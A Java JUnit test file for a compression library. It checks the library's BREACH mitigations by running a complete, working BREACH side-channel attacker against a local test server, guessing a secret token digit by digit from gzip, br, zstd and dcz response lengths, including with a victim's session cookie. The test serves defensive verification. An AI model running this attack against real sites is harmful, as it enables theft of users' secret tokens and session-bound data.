package dev.restcompress.breach;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.restcompress.config.AdaptiveSettings;
import dev.restcompress.config.BreachSettings;
import dev.restcompress.dictionary.CompressionDictionary;
import dev.restcompress.testing.TestServerExtension;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * BREACH run as an attacker would, over real HTTP (RESTEasy on Undertow, 127.0.0.1), against
 * {@link SecretPageResource}: the token is guessed one hex digit at a time from compressed lengths.
 *
 * <p>The attacker is a serious one. Per candidate digit, two requests: known prefix + digit + filler,
 * and known prefix + filler + digit, where the filler is 4 to 12 characters that never occur in the
 * page (then 4 more that end both tries alike), drawn fresh every round and shared by the round's
 * candidates. A wrong digit costs the same in both tries, the right one does not; the score of a digit
 * is how much its two lengths differ, summed over {@value #MIN_ROUNDS} to {@value #MAX_ROUNDS} rounds
 * (more while no digit stands out by four standard errors of the noise seen); the best wins, ties broken
 * at random, and a digit where nothing stands out at all sends the attacker one digit back. At most
 * {@value #BUDGET} requests per attack, seven attacks per run of this class.
 *
 * <p>Asserted: with {@code rest-compress.breach.protect=off} the whole token is recovered, for gzip,
 * br and zstd (dcz: the first six digits, then this attacker loses the track); with the library's
 * defaults, on the marked page, cross-site requests (answered unencoded, so asked for gzip only) and
 * requests without fetch metadata (padded by 0 to 256 bytes; all three codings), and on the
 * unmarked page whose token only the victim's session cookie reaches, cross-site requests carrying that
 * cookie (gzip, br, zstd, dcz), recover at most {@value #CHANCE_BOUND} of 24 digits and fewer than
 * {@value #LEADING_BOUND} in a row from the start. Chance is one digit in 16: the number of right digits
 * is then Binomial(24, 1/16), mean 1.5, P(at least 8) about 5e-5, and P(the first 6 right) 6e-8, so the
 * bounds fail a broken policy, not an unlucky one. Nothing is left to chance at run time: the attacker's
 * random source is seeded, and so is the padding's for the padded attacks, which send one request at a
 * time; every attack is then one fixed sequence of requests and lengths, the same on every run (the
 * bounds say why a correct build passes for all but a vanishing share of seeds).
 */
@Timeout(value = 240, unit = TimeUnit.SECONDS)
class BreachAttackTest {
    static final int MIN_ROUNDS = 2;
    static final int MAX_ROUNDS = 16;
    static final int MARGIN = 2;
    static final int BACKTRACKS = 6;
    static final java.util.concurrent.atomic.AtomicLong TOTAL_REQUESTS = new java.util.concurrent.atomic.AtomicLong();
    static final java.util.concurrent.atomic.AtomicLong LAST_REQUESTS = new java.util.concurrent.atomic.AtomicLong();
    static final int BUDGET = 8_000;
    static final int CHANCE_BOUND = 7;
    static final int LEADING_BOUND = 6;
    static final String HEX = "0123456789abcdef";
    /** Characters absent from the page and safe in a query string once encoded. */
    static final String FILLER = "!$()*,;@[]^_`{|}~";
    static final int IN_FLIGHT = 16;

    // Adaptive levels off on both: on a saturated machine the ladder would step the level down mid-test,
    // which changes every body's length by more than the padding or the attack's signal.
    @RegisterExtension
    static final TestServerExtension OFF = TestServerExtension.of(Set.of(SecretPageResource.class),
            Map.of(BreachSettings.PROTECT, "off", AdaptiveSettings.ADAPTIVE, "off"));
    @RegisterExtension
    static final TestServerExtension ON = TestServerExtension.of(Set.of(SecretPageResource.class),
            Map.of(AdaptiveSettings.ADAPTIVE, "off"));

    /** The padding lengths of {@link #PADDED}: seeded, and recorded as they are handed out. */
    static final long PADDING_SEED = 20261128L;
    static final RecordingRandom PADDING_DRAWS = new RecordingRandom(PADDING_SEED);
    @RegisterExtension
    static final TestServerExtension PADDED = TestServerExtension.of(Set.of(SecretPageResource.class),
            Map.of(AdaptiveSettings.ADAPTIVE, "off", BreachSettings.RANDOM, PADDING_DRAWS));
    static final CompressionDictionary DICTIONARY = CompressionDictionary.fromResource("breach-page",
            BreachAttackTest.class.getClassLoader(), SecretPageResource.DICTIONARY, SecretPageResource.DICTIONARY_MATCH,
            "breach-page-v1");
    /** The attacker's random source: its fillers and its tie-breaks. */
    static final long ATTACKER_SEED = 0x5EC12E7L;

    static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void withThePolicyOffTheTokenIsRecovered(String coding) throws Exception {
        long before = TOTAL_REQUESTS.get();
        String guessed = attack(OFF.uri("breach/marked"), coding, null);
        System.out.println("BREACH " + coding + " policy off: " + guessed + " in " + (TOTAL_REQUESTS.get() - before)
                + " requests");
        assertEquals(SecretPageResource.TOKEN, guessed, coding + ": the attack itself must work");
    }

    /** One coding is enough: a cross-site request is answered unencoded whichever coding it asks for. */
    @Test
    void crossSiteRequestsRecoverOnlyChance() throws Exception {
        String guessed = attack(ON.uri("breach/marked"), "gzip", "cross-site");
        assertAtChance("gzip cross-site", guessed);
    }

    /**
     * Padded answers, on the server whose padding lengths come from the seeded source: reseeded before the
     * attack, whose requests go one at a time, so the n-th padded response gets the n-th length and the
     * whole attack is one fixed sequence, as against deterministic lengths.
     */
    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void requestsWithoutFetchMetadataRecoverOnlyChance(String coding) throws Exception {
        PADDING_DRAWS.setSeed(PADDING_SEED);
        String guessed = attack(PADDED.uri("breach/marked"), coding, null, 1);
        assertAtChance(coding + " without fetch metadata", guessed);
    }

    /** The same page is still compressed for its own site: the policy does not just turn compression off. */
    @Test
    void sameOriginRequestsAreStillCompressed() throws Exception {
        HttpResponse<byte[]> r = get(ON.uri("breach/marked"), "q=x", "gzip", "same-origin").join();
        assertEquals("gzip", r.headers().firstValue("Content-Encoding").orElse(null));
        assertTrue(r.headers().allValues("Vary").toString().contains("Sec-Fetch-Site"), r.headers().map().toString());
    }

    /**
     * What padding costs on the attack page: 200 responses without fetch metadata against the same
     * request from the same origin, on a server whose padding lengths come from a seeded source that
     * records each length it hands out ({@code rest-compress.breach.random}; production draws from a
     * SecureRandom). The requests go one at a time, so the i-th response got the i-th length: each
     * response must be longer than the unpadded one by exactly its length plus the coding's framing
     * (gzip's FEXTRA field 6 bytes, zstd's skippable frame 8, br's metadata block header 1 byte more
     * for a non-empty padding plus a constant its encoder's flush adds), so the mean cost is the mean
     * length drawn plus the framing, exactly, and the lengths vary as the draws do.
     */
    @ParameterizedTest
    @ValueSource(strings = {"gzip", "zstd", "br"})
    void paddingCostsItsMeanPerResponseAndVaries(String coding) throws Exception {
        URI page = PADDED.uri("breach/marked");
        HttpResponse<byte[]> plain = get(page, "q=x", coding, "same-origin").join();
        assertEquals(coding, plain.headers().firstValue("Content-Encoding").orElse(null));
        List<Integer> drawn = PADDING_DRAWS.drawnSince(() -> {
            for (int i = 0; i < 200; i++) {
                HttpResponse<byte[]> r = get(page, "q=x", coding, null).join();
                assertEquals(coding, r.headers().firstValue("Content-Encoding").orElse(null));
                responses.add(length(r) - length(plain));
            }
        });
        assertEquals(200, drawn.size(), "one padding length per padded response");
        Set<Integer> framings = new java.util.TreeSet<>();
        Set<Integer> lengths = new java.util.HashSet<>();
        long extra = 0;
        long padding = 0;
        for (int i = 0; i < 200; i++) {
            int p = drawn.get(i);
            int e = responses.get(i);
            framings.add(e - p - (coding.equals("br") && p > 0 ? 1 : 0));
            lengths.add(e);
            extra += e;
            padding += p;
        }
        responses.clear();
        System.out.printf("BREACH padding %s: page %d B compressed, %.1f B more per response (%.0f%%) for %.1f B"
                + " of padding, framing %s, %d distinct lengths in 200%n", coding, length(plain), extra / 200.0,
                100 * extra / 200.0 / length(plain), padding / 200.0, framings, lengths.size());
        assertEquals(1, framings.size(), coding + ": every response costs its padding plus one framing: " + framings);
        int framing = framings.iterator().next();
        switch (coding) {
            case "gzip" -> assertEquals(6, framing, "gzip: FEXTRA header and subfield header");
            case "zstd" -> assertEquals(8, framing, "zstd: the skippable frame's header");
            default -> assertTrue(framing >= 1 && framing <= 4, "br: flush and metadata header, was " + framing);
        }
        assertEquals(new java.util.HashSet<>(drawn).size(), lengths.size(), coding + ": one length per draw");
    }

    /** The extra bytes of each padded response, in order. */
    private static final List<Integer> responses = new ArrayList<>();

    /**
     * The victim's browser on the attacker's page: every request carries the victim's session cookie (the
     * browser attaches it) and {@code Sec-Fetch-Site: cross-site}. The method is not marked; the
     * library's defaults guard it because the request carries credentials. Chance, for every coding
     * (dcz with the dictionary the page offers).
     */
    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd", "dcz"})
    void unmarkedCrossSiteRequestsWithTheSessionCookieRecoverOnlyChance(String coding) throws Exception {
        String[] headers = victimHeaders(coding);
        HttpResponse<byte[]> one = get(ON.uri("breach/session"), "q=x", "identity", "cross-site", headers).join();
        assertTrue(new String(one.body(), StandardCharsets.UTF_8).contains(SecretPageResource.TOKEN),
                "the victim's cookie must reach the page's token (else the attack has nothing to find)");
        String guessed = attack(ON.uri("breach/session"), coding, "cross-site", headers);
        assertAtChance(coding + " unmarked, cross-site with the session cookie", guessed);
    }

    /**
     * Without the defaults' guard (protect=off) the same attack recovers the token from dcz too, so the
     * chance above is the guard's doing (gzip, br and zstd: {@link #withThePolicyOffTheTokenIsRecovered}, the
     * same page). This attacker loses dcz's track after a few digits (the dictionary's matches compete with
     * the guess's), so the bound is on the digits it got right in a row from the start: 6 by chance has
     * probability 16^-6, about 6e-8.
     */
    @Test
    void unmarkedPageWithThePolicyOffGivesTheTokenAwayInDcz() throws Exception {
        String guessed = attack(OFF.uri("breach/session"), "dcz", "cross-site", victimHeaders("dcz"));
        int leading = 0;
        while (leading < 24 && guessed.charAt(leading) == SecretPageResource.TOKEN.charAt(leading)) {
            leading++;
        }
        System.out.println("BREACH dcz unmarked, policy off: " + guessed + ", the first " + leading + " right, in "
                + LAST_REQUESTS.get() + " requests");
        assertTrue(leading >= 6, "dcz: the attack on the unmarked page must work, got " + guessed);
    }

    /**
     * What the default leaves alone: a cross-site request without credentials (a public API fetched from
     * another origin) and the victim's own same-origin requests are compressed, byte for byte as with the
     * policy off, the former also without {@code Vary: Sec-Fetch-Site}; the guarded answers vary on it.
     */
    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd", "dcz"})
    void credentialLessAndSameOriginRequestsAreStillCompressed(String coding) throws Exception {
        String[] dictionary = coding.equals("dcz") ? dictionaryHeaders() : new String[0];
        URI session = ON.uri("breach/session");
        HttpResponse<byte[]> open = get(session, "q=x", coding, "cross-site", dictionary).join();
        HttpResponse<byte[]> off = get(OFF.uri("breach/session"), "q=x", coding, "cross-site", dictionary).join();
        assertEquals(coding, open.headers().firstValue("Content-Encoding").orElse(null), "credential-less cross-site");
        org.junit.jupiter.api.Assertions.assertArrayEquals(off.body(), open.body(), "the same bytes as with the policy off");
        assertEquals(off.headers().allValues("Vary"), open.headers().allValues("Vary"), "the same Vary as with off");
        assertFalse(open.headers().allValues("Vary").toString().contains("Sec-Fetch-Site"));

        HttpResponse<byte[]> own = get(session, "q=x", coding, "same-origin", victimHeaders(coding)).join();
        assertEquals(coding, own.headers().firstValue("Content-Encoding").orElse(null), "the victim's own site");
        HttpResponse<byte[]> ownOff = get(OFF.uri("breach/session"), "q=x", coding, "same-origin",
                victimHeaders(coding)).join();
        org.junit.jupiter.api.Assertions.assertArrayEquals(ownOff.body(), own.body(),
                "same-origin with the cookie: the same body bytes as with the policy off");
        assertTrue(own.headers().allValues("Vary").toString().contains("Sec-Fetch-Site"), own.headers().map().toString());
        HttpResponse<byte[]> attacked = get(session, "q=x", coding, "cross-site", victimHeaders(coding)).join();
        assertNull(attacked.headers().firstValue("Content-Encoding").orElse(null), "credentialed cross-site");
        assertTrue(attacked.headers().allValues("Vary").toString().contains("Sec-Fetch-Site"));
    }

    /** The victim's browser: its session cookie, and for dcz the dictionary it holds. */
    static String[] victimHeaders(String coding) {
        String[] cookie = {"Cookie", "session=" + SecretPageResource.SESSION};
        if (!coding.equals("dcz")) {
            return cookie;
        }
        String[] d = dictionaryHeaders();
        return new String[] {cookie[0], cookie[1], d[0], d[1]};
    }

    static String[] dictionaryHeaders() {
        return new String[] {"Available-Dictionary", DICTIONARY.hashField()};
    }

    /**
     * At chance: at most {@value #CHANCE_BOUND} digits right, and fewer than {@value #LEADING_BOUND} right in a
     * row from the start (an attacker that loses the track after a few digits, as on dcz, is still a
     * leak: by chance that run has probability 16^-6, about 6e-8).
     */
    static void assertAtChance(String what, String guessed) {
        int right = 0;
        for (int i = 0; i < guessed.length(); i++) {
            right += guessed.charAt(i) == SecretPageResource.TOKEN.charAt(i) ? 1 : 0;
        }
        int leading = 0;
        while (leading < 24 && guessed.charAt(leading) == SecretPageResource.TOKEN.charAt(leading)) {
            leading++;
        }
        System.out.println("BREACH " + what + ": " + right + "/24 digits right, " + leading + " from the start ("
                + guessed + ") in " + LAST_REQUESTS.get() + " requests");
        assertTrue(right <= CHANCE_BOUND, what + ": " + right + " of 24 digits recovered (" + guessed + ")");
        assertTrue(leading < LEADING_BOUND, what + ": the first " + leading + " digits recovered (" + guessed + ")");
    }

    /**
     * Guesses the token digit by digit; returns the 24 digits it settled on. Per digit at least
     * {@value #MIN_ROUNDS} rounds, more (up to {@value #MAX_ROUNDS}) while no digit leads the others by
     * {@value #MARGIN} bytes; a digit where no candidate compresses better at all means the previous
     * one was wrong, so it is dropped (at most {@value #BACKTRACKS} times). At most {@value #BUDGET}
     * requests per attack (the class's timeout bounds its time).
     */
    static String attack(URI page, String coding, String secFetchSite, String... headers) throws Exception {
        return attack(page, coding, secFetchSite, IN_FLIGHT, headers);
    }

    /** {@link #attack(URI, String, String, String...)} with at most {@code inFlight} requests at a time. */
    static String attack(URI page, String coding, String secFetchSite, int inFlight, String... headers)
            throws Exception {
        // Seeded: against deterministic lengths (the policy off, or bodies sent unencoded) the whole attack
        // is then one fixed sequence of requests, so its result cannot change from run to run; against
        // padded ones too when the padding's source is seeded and the requests go one at a time.
        Random random = new Random(ATTACKER_SEED);
        StringBuilder known = new StringBuilder();
        int requests = 0;
        int backtracks = 0;
        while (known.length() < 24 && requests + 32 <= BUDGET) {
            long[] score = new long[16];
            double[] spread = new double[2]; // sum and sum of squares of every per-round difference
            int round = 0;
            while (round < MAX_ROUNDS && requests + 32 <= BUDGET
                    && (round < MIN_ROUNDS || !decided(score, round, spread))) {
                List<CompletableFuture<HttpResponse<byte[]>>> sent = new ArrayList<>();
                // One filler per round, shared by the round's candidates, so that they differ only in
                // their digit; a random length moves the byte boundary the digit's bits fall against.
                String filler = filler(random, 4 + random.nextInt(9));
                String tail = filler(random, 4); // the same end for both tries: no match against what follows
                for (int c = 0; c < 16; c++) {
                    String prefix = SecretPageResource.KNOWN + known;
                    for (String query : List.of(prefix + HEX.charAt(c) + filler + tail, prefix + filler + HEX.charAt(c) + tail)) {
                        sent.add(get(page, "q=" + enc(query), coding, secFetchSite, headers));
                        if (sent.size() % inFlight == 0) {
                            CompletableFuture.allOf(sent.subList(sent.size() - inFlight, sent.size())
                                    .toArray(CompletableFuture[]::new)).join();
                        }
                    }
                }
                for (int c = 0; c < 16; c++) {
                    // A wrong digit costs the same in both tries; the right one does not. Which try is
                    // shorter depends on the coding (zstd's sequence codes can make the longer match cost
                    // more), so the attacker counts the difference, not its sign.
                    int d = Math.abs(length(sent.get(2 * c + 1).join()) - length(sent.get(2 * c).join()));
                    score[c] += d;
                    spread[0] += d;
                    spread[1] += (double) d * d;
                }
                requests += 32;
                round++;
            }
            int best = best(score, random);
            if (score[best] == 0 && known.length() > 0 && backtracks < BACKTRACKS) {
                known.setLength(known.length() - 1);
                backtracks++;
            } else {
                known.append(HEX.charAt(best));
            }
        }
        while (known.length() < 24) {
            known.append(HEX.charAt(random.nextInt(16))); // out of budget: a guess
        }
        TOTAL_REQUESTS.addAndGet(requests);
        LAST_REQUESTS.set(requests);
        return known.toString();
    }

    /**
     * Whether one digit leads every other by the margin, or (after a few rounds) is the only one that
     * showed any difference at all. The margin grows with the noise: four standard errors of a sum of
     * {@code rounds} differences (as spread as all differences seen for this digit), so that random
     * lengths do not end the rounds early by luck.
     */
    static boolean decided(long[] score, int rounds, double[] spread) {
        double n = 16.0 * rounds;
        double mean = spread[0] / n;
        double sigma = Math.sqrt(Math.max(0, spread[1] / n - mean * mean));
        double margin = Math.max(MARGIN, 4 * sigma * Math.sqrt(rounds));
        long first = Long.MIN_VALUE;
        long second = Long.MIN_VALUE;
        for (long v : score) {
            if (v > first) {
                second = first;
                first = v;
            } else if (v > second) {
                second = v;
            }
        }
        return first - second >= margin || rounds >= 4 && first > 0 && second == 0;
    }

    static int best(long[] score, Random random) {
        List<Integer> top = new ArrayList<>();
        long max = Long.MIN_VALUE;
        for (int c = 0; c < score.length; c++) {
            if (score[c] > max) {
                max = score[c];
                top.clear();
            }
            if (score[c] == max) {
                top.add(c);
            }
        }
        return top.get(random.nextInt(top.size()));
    }

    static String filler(Random random, int length) {
        StringBuilder f = new StringBuilder();
        for (int i = 0; i < length; i++) {
            f.append(FILLER.charAt(random.nextInt(FILLER.length())));
        }
        return f.toString();
    }

    static int length(HttpResponse<byte[]> r) {
        assertEquals(200, r.statusCode());
        return r.body().length;
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    /** A GET of {@code page?query} asking for {@code coding}, with {@code headers} (name, value, ...) too. */
    static CompletableFuture<HttpResponse<byte[]>> get(URI page, String query, String coding, String secFetchSite,
            String... headers) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(page + "?" + query)).timeout(Duration.ofSeconds(30))
                .header("Accept-Encoding", coding);
        if (secFetchSite != null) {
            b.header("Sec-Fetch-Site", secFetchSite);
        }
        if (headers.length > 0) {
            b.headers(headers);
        }
        return HTTP.sendAsync(b.GET().build(), HttpResponse.BodyHandlers.ofByteArray());
    }
}
